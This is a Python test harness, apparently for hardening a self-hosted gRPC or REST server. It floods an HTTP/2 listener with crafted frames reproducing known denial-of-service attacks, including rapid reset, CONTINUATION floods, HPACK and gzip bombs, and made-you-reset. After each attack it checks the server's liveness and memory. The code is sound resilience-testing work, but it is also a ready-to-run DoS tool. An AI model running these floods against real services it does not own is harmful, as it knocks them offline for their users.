#!/usr/bin/env python3
"""Attacks an HTTP/2 listener with hand-made frames, as a library would refuse to send most of them.

    abuse.py HOST PORT PID METHOD MESSAGE

METHOD is the path of a unary gRPC method, such as /pkg.Service/Method, MESSAGE a valid request for it in hex ("" if empty).
With `--rest`, METHOD is a path for POST, and MESSAGE a JSON document for which it returns 200.

PID is the server process. Every attack is bounded in time and frames. After each, the process must be alive, a call on
another connection must succeed within two seconds, memory must not have grown by more than 96 MiB, and the process must be
idle within five seconds. Attacks that need a stalled stream are enabled by `--stream METHOD MESSAGE`, a bidirectional
method with a response for each request, and `--answers METHOD MESSAGE`, a method whose responses are many MiB in total
(MESSAGE of some KiB). `--only NAME` runs one attack. Prints a line for each attack and a summary; the exit code is 1 if an
attack succeeded.
"""

import argparse
import gzip
import os
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST, SETTINGS, PUSH, PING, GOAWAY, WINDOW, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SETTING_TABLE, SETTING_WINDOW = 1, 4

ATTACK_S = 5
RESPONSE_S = 2
IDLE_S = 5
GROWTH_MAX = 96 << 20
# The share of one processor below which a process is idle.
IDLE_SHARE = 0.1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def number(value, bits, first=0):
    """An HPACK integer (RFC 7541 §5.1)."""
    limit = (1 << bits) - 1
    if value < limit:
        return bytes((first | value,))
    out, value = [first | limit], value - limit
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes(out + [value])


def field(name, value, first=0x00):
    """A literal field without indexing (first = 0x40: with incremental indexing)."""
    name, value = (text.encode() if isinstance(text, str) else text for text in (name, value))
    return bytes((first,)) + number(len(name), 7) + name + number(len(value), 7) + value


def prefixed(message, compressed=0):
    return struct.pack(">BI", compressed, len(message)) + message


class Gone(Exception):
    """The server ended the connection."""


class CallFailed(Exception):
    """A valid call failed."""


class Peer:
    def __init__(self, target, settings=(), preface=True, timeout=ATTACK_S):
        self.target = target
        self.socket = socket.create_connection(target.address, timeout=timeout)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.buffer, self.next, self.goaway = b"", 1, None
        if preface:
            pairs = b"".join(struct.pack(">HI", *pair) for pair in settings)
            self.send(PREFACE + frame(SETTINGS, 0, 0, pairs))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def send(self, data):
        try:
            self.socket.sendall(data)
        except (ConnectionError, TimeoutError) as problem:
            raise Gone(type(problem).__name__) from None

    def read(self, seconds):
        """The next frame (kind, flags, stream, payload); None if none arrives in time."""
        until = time.monotonic() + seconds
        while True:
            if len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) >= 9 + length:
                    head, payload = self.buffer[:9], self.buffer[9 : 9 + length]
                    self.buffer = self.buffer[9 + length :]
                    if head[3] == GOAWAY:
                        self.goaway = int.from_bytes(payload[4:8], "big")
                    return head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF, payload
            left = until - time.monotonic()
            if left <= 0:
                return None
            self.socket.settimeout(left)
            try:
                more = self.socket.recv(65536)
            except TimeoutError:
                return None
            except ConnectionError:
                raise Gone("reset") from None
            finally:
                self.socket.settimeout(ATTACK_S)
            if not more:
                raise Gone("closed")
            self.buffer += more

    def drain(self, seconds=0.0):
        """Reads received frames, so that the server is not blocked by its own output; returns the count of each kind."""
        seen = {}
        while next := self.read(seconds):
            seen[next[0]] = seen.get(next[0], 0) + 1
            if next[0] == SETTINGS and not next[1] & ACK:
                self.send(frame(SETTINGS, ACK, 0))
        return seen

    def head(self, method=None, extra=b""):
        path = method or self.target.method
        authority = "{}:{}".format(*self.target.address)
        fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority)]
        fields += [("content-type", "application/json" if self.target.rest else "application/grpc"), ("te", "trailers")]
        return b"".join(field(*pair) for pair in fields) + extra

    def open(self, method=None, extra=b"", flags=END_HEADERS, send=True):
        stream, self.next = self.next, self.next + 2
        block = frame(HEADERS, flags, stream, self.head(method, extra))
        if send:
            self.send(block)
        return stream, block

    def call(self, message, extra=b""):
        stream, head = self.open(extra=extra, send=False)
        self.send(head + frame(DATA, END_STREAM, stream, message if self.target.rest else prefixed(message)))
        return stream


class Target:
    def __init__(self, arguments):
        self.address = (arguments.host, arguments.port)
        self.pid, self.method = arguments.pid, arguments.method
        self.rest = arguments.rest
        self.message = arguments.message.encode() if self.rest else bytes.fromhex(arguments.message)
        self.stream = arguments.stream and (arguments.stream[0], bytes.fromhex(arguments.stream[1]))
        self.answers = arguments.answers and (arguments.answers[0], bytes.fromhex(arguments.answers[1]))

    def memory(self):
        with open(f"/proc/{self.pid}/statm") as file:
            return int(file.read().split()[1]) * os.sysconf("SC_PAGESIZE")

    def processor_seconds(self):
        with open(f"/proc/{self.pid}/stat") as file:
            fields = file.read().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")

    def valid_call(self):
        """The duration of a successful call in seconds; raises if it fails."""
        try:
            return self.call_once()
        except (Gone, OSError) as problem:
            raise CallFailed(problem) from None

    def call_once(self):
        start = time.monotonic()
        with Peer(self, timeout=RESPONSE_S) as peer:
            stream = peer.call(self.message)
            last = None
            while True:
                left = start + RESPONSE_S - time.monotonic()
                next = peer.read(left) if left > 0 else None
                if next is None:
                    raise Gone("no response in time")
                kind, flags, of, payload = next
                if of == stream and kind == RST:
                    raise Gone("the call was reset")
                if of == stream and kind == HEADERS:
                    last = payload  # the trailers for gRPC, the response headers for REST
                if of == stream and flags & END_STREAM and kind in (DATA, HEADERS):
                    break
        if self.rest:
            # `:status: 200` is in the static table (RFC 7541, appendix A) and comes first.
            if last is None or last[:1] != b"\x88":
                raise Gone(f"unexpected status: {last!r}")
            return time.monotonic() - start
        # Servers write the status as a literal; name and value `0` are plain or Huffman-coded.
        plain, huffman = b"grpc-status\x010", bytes.fromhex("889acac8b21234da8f") + b"\x81\x07"
        if last is None or (plain not in last and huffman not in last):
            raise Gone(f"unexpected status: {last!r}")
        return time.monotonic() - start

    def seconds_until_idle(self):
        """Seconds until the process is idle; None if it is not in time."""
        start = time.monotonic()
        while time.monotonic() - start < IDLE_S:
            before = self.processor_seconds()
            time.sleep(0.5)
            if self.processor_seconds() - before <= 0.5 * IDLE_SHARE:
                return time.monotonic() - start - 0.5
        return None


def flood(peer, make, count, batch=100, read=True):
    """Sends frames until the server closes the connection, the count is reached or the time expires."""
    until, sent = time.monotonic() + ATTACK_S, 0
    try:
        while sent < count and time.monotonic() < until:
            peer.send(b"".join(make() for _ in range(min(batch, count - sent))))
            sent += batch
            if read:
                peer.drain()
        peer.drain(0.2)
    except Gone as gone:
        goaway = "" if peer.goaway is None else f", GOAWAY {peer.goaway}"
        return f"{min(sent, count)} frames, then {gone}{goaway}"
    return f"{min(sent, count)} frames accepted" + ("" if peer.goaway is None else f", GOAWAY {peer.goaway}")


# Each attack yields its report while its connections are still open, so that the checks run under attack.


def rapid_reset(target):
    """CVE-2023-44487: streams that are opened and reset."""
    with Peer(target) as peer:

        def make():
            stream, head = peer.open(send=False)
            return head + frame(RST, 0, stream, struct.pack(">I", 8))

        yield flood(peer, make, 50_000)


def continuation_flood(target):
    """CVE-2024-27316: an endless header block."""
    with Peer(target) as peer:
        peer.open(flags=0)
        piece = field("x-a", "b" * 8000)
        yield flood(peer, lambda: frame(CONTINUATION, 0, 1, piece), 20_000, read=False)


def empty_continuation_flood(target):
    """The same with empty frames, which size limits do not count."""
    with Peer(target) as peer:
        peer.open(flags=0)
        yield flood(peer, lambda: frame(CONTINUATION, 0, 1), 200_000, 1000, read=False)


def settings_flood(target):
    """CVE-2019-9515: SETTINGS frames whose acknowledgements are not read."""
    with Peer(target) as peer:
        pair = struct.pack(">HI", SETTING_WINDOW, 65535)
        yield flood(peer, lambda: frame(SETTINGS, 0, 0, pair), 200_000, 1000, read=False)


def ping_flood(target):
    """CVE-2019-9512: PING frames whose acknowledgements are not read."""
    with Peer(target) as peer:
        yield flood(peer, lambda: frame(PING, 0, 0, b"12345678"), 500_000, 1000, read=False)


def empty_data_flood(target):
    """CVE-2019-9518: empty DATA frames, which flow control does not count."""
    with Peer(target) as peer:
        stream, _ = peer.open()
        yield flood(peer, lambda: frame(DATA, 0, stream), 500_000, 1000)


def stalled_empty_data_flood(target):
    """The same on a stream that the server does not read because its responses are not read: frames must not accumulate."""
    if not target.stream:
        return
    with Peer(target, [(SETTING_WINDOW, 0)]) as peer:
        stream, _ = peer.open(target.stream[0])
        piece = prefixed(target.stream[1])
        # The initial window is 64 KiB; send as much as the server grants, until its own buffers are full.
        credit, start = 65535, time.monotonic()
        while time.monotonic() - start < ATTACK_S / 2:
            while credit >= len(piece):
                peer.send(frame(DATA, 0, stream, piece))
                credit -= len(piece)
            next = peer.read(0.5)
            if next is None:
                break
            if next[0] == WINDOW and next[2] == stream:
                credit += int.from_bytes(next[3], "big")
        yield flood(peer, lambda: frame(DATA, 0, stream), 1_000_000, 1000)


def header_list_bomb(target):
    """Well-formed header blocks above 64 KiB."""
    with Peer(target) as peer:
        for size in (70, 1000):
            stream, _ = peer.open(flags=0)
            for part in range(size // 8):
                last = END_HEADERS if part == size // 8 - 1 else 0
                peer.send(frame(CONTINUATION, last, stream, field(f"x-{part}", "a" * 8000)))
            peer.drain(0.3)
        yield "70 and 1000 KiB" + ("" if peer.goaway is None else f", GOAWAY {peer.goaway}")


def hpack_bomb(target):
    """A long field in the dynamic table, referenced thousands of times by one byte each."""
    with Peer(target) as peer:
        until, sent = time.monotonic() + ATTACK_S, 0
        try:
            while time.monotonic() < until and sent < 500:
                # The newest dynamic entry has index 62.
                entry = field("x-bomb", "a" * 3900, 0x40) if sent == 0 else b""
                peer.open(extra=entry + b"\xbe" * 11_000, flags=END_HEADERS | END_STREAM)
                sent += 1
                peer.drain()
        except Gone as gone:
            yield f"{sent} header blocks of 43 MB each, then {gone}"
            return
        yield f"{sent} header blocks of 43 MB each"


def table_size_flood(target):
    """Header blocks full of dynamic table size updates."""
    with Peer(target) as peer:
        updates = (b"\x20" + number(4096, 5, 0x20)) * 2000
        yield flood(peer, lambda: frame(HEADERS, END_HEADERS | END_STREAM, peer.open(send=False)[0], updates), 500, 1)


def zero_window(target):
    """Calls whose responses are not read."""
    with Peer(target, [(SETTING_WINDOW, 0)]) as peer:
        for _ in range(100):
            peer.call(target.message)
        peer.drain(ATTACK_S / 2)
        yield "100 responses pending"


def zero_windows(target):
    """The same on many connections."""
    peers = []
    try:
        for _ in range(25):
            peers.append(Peer(target, [(SETTING_WINDOW, 0)]))
            for _ in range(100):
                peers[-1].call(target.message)
        time.sleep(1)
        yield "2500 responses pending on 25 connections"
    finally:
        for peer in peers:
            peer.socket.close()


def slow_readers(target):
    """Streams whose responses are not read must not block those of other callers."""
    if not target.answers:
        return
    method, message = target.answers
    peers = []
    try:
        for _ in range(4):
            peers.append(Peer(target, [(SETTING_WINDOW, 0)]))
            # The server may widen the connection window.
            peers[-1].drain(0.1)
            for _ in range(60):
                stream, head = peers[-1].open(method, send=False)
                body = prefixed(message)
                parts = [body[at : at + 16384] for at in range(0, len(body), 16384)]
                flags = [0] * (len(parts) - 1) + [END_STREAM]
                peers[-1].send(head + b"".join(frame(DATA, flag, stream, part) for flag, part in zip(flags, parts)))
        time.sleep(ATTACK_S / 2)
        # Several calls, to reach all workers of the server.
        for _ in range(8):
            target.valid_call()
        yield "240 streams pending"
    finally:
        for peer in peers:
            peer.socket.close()


def window_overflow(target):
    """Windows above 2^31-1, of the connection and of a stream."""
    reports = []
    for stream in (0, 1):
        with Peer(target) as peer:
            peer.open()
            grow = frame(WINDOW, 0, stream, struct.pack(">I", 0x7FFFFFFF))
            reports.append(flood(peer, lambda: grow, 2, 2))
    yield "; ".join(reports)


def window_flood(target):
    """WINDOW_UPDATE frames of one byte."""
    with Peer(target) as peer:
        peer.open()
        yield flood(peer, lambda: frame(WINDOW, 0, 1, struct.pack(">I", 1)), 500_000, 1000)


def priority_flood(target):
    """CVE-2019-9513: PRIORITY frames for streams that were never opened."""
    with Peer(target) as peer:
        at = iter(range(1, 1 << 30, 2))
        yield flood(peer, lambda: frame(PRIORITY, 0, next(at), struct.pack(">IB", 0, 16)), 500_000, 1000)


def made_you_reset(target):
    """CVE-2025-8671: invalid frames make the server reset streams while their calls continue."""
    with Peer(target) as peer:

        def make():
            stream, head = peer.open(send=False)
            return head + frame(WINDOW, 0, stream, struct.pack(">I", 0))

        yield flood(peer, make, 50_000)


def made_you_reset_by_data(target):
    """The same with DATA after the end of a stream."""
    with Peer(target) as peer:

        def make():
            stream, head = peer.open(flags=END_HEADERS | END_STREAM, send=False)
            return head + frame(DATA, 0, stream, b"x")

        yield flood(peer, make, 50_000)


def unknown_frames(target):
    """Frames of an unknown type, which must be ignored."""
    with Peer(target) as peer:
        yield flood(peer, lambda: frame(0xEE, 0xFF, 0, b"x" * 100), 100_000, 1000)


def no_preface(target):
    """Connections that send nothing, a part of the preface, or another protocol."""
    begin = [b"", PREFACE[:10], b"GET / HTTP/1.1\r\nhost: a\r\n\r\n", b"\x16\x03\x01\x02\x00\x01" + b"\0" * 100]
    peers = [Peer(target, preface=False) for _ in range(400)]
    try:
        for at, peer in enumerate(peers):
            peer.socket.sendall(begin[at % len(begin)])
        time.sleep(1)
        yield "400 connections"
    finally:
        for peer in peers:
            peer.socket.close()


def slow_preface(target):
    """A preface sent byte by byte."""
    with Peer(target, preface=False) as peer:
        try:
            for byte in PREFACE:
                peer.send(bytes((byte,)))
                time.sleep(0.1)
        except Gone as gone:
            yield str(gone)
            return
        yield "accepted"


def half_open(target):
    """Calls without message and end, as many as a connection may have."""
    peers = []
    try:
        for _ in range(20):
            peers.append(Peer(target))
            for _ in range(100):
                peers[-1].open()
            peers[-1].drain(0.01)
        yield "2000 calls on 20 connections"
    finally:
        for peer in peers:
            peer.socket.close()


def huge_prefix(target):
    """Messages with a length prefix of 4 GiB, for which no memory may be allocated."""
    if target.rest:
        return
    with Peer(target) as peer:
        for _ in range(50):
            stream, _ = peer.open()
            peer.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 0xFFFFFFFF) + b"x" * 1000))
        seen = peer.drain(0.5)
        yield f"50 calls, {seen.get(HEADERS, 0)} rejected"


def gzip_bomb(target):
    """Compressed messages that decompress to a thousand times their size."""
    if target.rest:
        return
    bomb = gzip.compress(bytes(200 << 20), 9)
    with Peer(target) as peer:
        for _ in range(5):
            stream, _ = peer.open(extra=field("grpc-encoding", "gzip"))
            body, at = prefixed(bomb, 1), 0
            until = time.monotonic() + 2
            credit = 65535
            while at < len(body) and time.monotonic() < until:
                piece = body[at : at + min(16384, credit)]
                if piece:
                    last = END_STREAM if at + len(piece) == len(body) else 0
                    peer.send(frame(DATA, last, stream, piece))
                    at, credit = at + len(piece), credit - len(piece)
                    continue
                next = peer.read(0.5)
                if next is None:
                    break
                if next[0] == WINDOW and next[2] == stream:
                    credit += int.from_bytes(next[3], "big")
        seen = peer.drain(0.5)
        yield f"5 messages of {len(bomb) >> 10} KiB for 200 MiB each, {seen}"


def never_finished(target):
    """Ten thousand unfinished calls on one connection."""
    with Peer(target) as peer:
        yield flood(peer, lambda: peer.open(send=False)[1], 10_000)


def bad_metadata(target):
    """Metadata outside ASCII, invalid header names, invalid timeouts."""
    bad = [
        field("x-plain", b"\xff\xfe\x80"),
        field("x-bad-bin", b"\xff\xff"),
        field("grpc-timeout", "9" * 5000 + "S"),
        field("grpc-timeout", "99999999H"),
        field("grpc-timeout", "-1S"),
        field("grpc-timeout", "0n"),
        field("grpc-timeout", b"\xff"),
        field("grpc-encoding", b"\xff" * 100),
        field("X-UPPER", "a"),
        field("connection", "close"),
        field(":path", "/second"),
        field("x-nul", b"a\0b"),
    ]
    outcomes = []
    for extra in bad:
        with Peer(target) as peer:
            try:
                peer.call(target.message, extra)
                seen = peer.drain(0.1)
            except Gone:
                seen = {}
            kinds = {HEADERS: "answered", RST: "reset", GOAWAY: "gone"}
            outcomes.append(next((word for kind, word in kinds.items() if kind in seen), "closed"))
    yield ", ".join(f"{outcomes.count(word)} {word}" for word in dict.fromkeys(outcomes))


def tiny_data(target):
    """DATA frames of one byte, whose bookkeeping costs more memory than flow control counts."""
    if not target.stream:
        return
    peers = []
    try:
        for _ in range(4):
            peer = Peer(target, [(SETTING_WINDOW, 0)])
            peers.append(peer)
            for _ in range(16):
                stream, _ = peer.open(target.stream[0])
                # The message is never completed. The initial window is 64 KiB.
                peer.send(frame(DATA, 0, stream, struct.pack(">BI", 0, 65000)) + frame(DATA, 0, stream, b"x") * 30_000)
                peer.drain()
        yield "64 streams with 30000 frames of one byte"
    except Gone as gone:
        yield str(gone)
    finally:
        for peer in peers:
            peer.socket.close()


ATTACKS = [
    rapid_reset,
    continuation_flood,
    empty_continuation_flood,
    settings_flood,
    ping_flood,
    empty_data_flood,
    stalled_empty_data_flood,
    tiny_data,
    header_list_bomb,
    hpack_bomb,
    table_size_flood,
    zero_window,
    zero_windows,
    slow_readers,
    window_overflow,
    window_flood,
    priority_flood,
    made_you_reset,
    made_you_reset_by_data,
    unknown_frames,
    no_preface,
    slow_preface,
    half_open,
    huge_prefix,
    gzip_bomb,
    never_finished,
    bad_metadata,
]


def attempt(target, attack):
    """Runs an attack and the checks while its connections are open; returns the report, and the reason of a failure or None."""
    before = target.memory()
    try:
        running = attack(target)
        try:
            detail = next(running, None)
        except CallFailed as problem:
            return "", f"a valid call failed: {problem}"
        except Gone as gone:
            detail = f"the connection ended ({gone})"
        if detail is None:
            return "not applicable to this method", None
        try:
            took = target.valid_call()
        except CallFailed as problem:
            return detail, f"a valid call failed: {problem}"
        grown = target.memory() - before
        idle_after = target.seconds_until_idle()
        running.close()
    except FileNotFoundError:
        return "", "the process has exited"
    except OSError as problem:
        return "", f"{type(problem).__name__}: {problem}"
    detail = f"{detail}; a call took {took * 1000:.0f} ms, {grown / (1 << 20):+.1f} MiB"
    if grown > GROWTH_MAX:
        return detail, "memory grew"
    if idle_after is None:
        return detail, "the process does not become idle"
    return f"{detail}, idle after {idle_after:.1f} s", None


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("pid", type=int)
    parser.add_argument("method")
    parser.add_argument("message")
    parser.add_argument("--rest", action="store_true")
    parser.add_argument("--stream", nargs=2, metavar=("METHOD", "MESSAGE"))
    parser.add_argument("--answers", nargs=2, metavar=("METHOD", "MESSAGE"))
    parser.add_argument("--only", action="append")
    arguments = parser.parse_args()
    target = Target(arguments)
    target.valid_call()
    passed = failed = 0
    for attack in ATTACKS:
        name = attack.__name__.replace("_", "-")
        if arguments.only and name not in arguments.only:
            continue
        detail, reason = attempt(target, attack)
        if reason is None:
            passed += 1
            print(f"ok {name} {detail}", flush=True)
        else:
            failed += 1
            print(f"FAIL {name} {reason} ({detail})", flush=True)
    print(f"{passed} passed, {failed} failed")
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
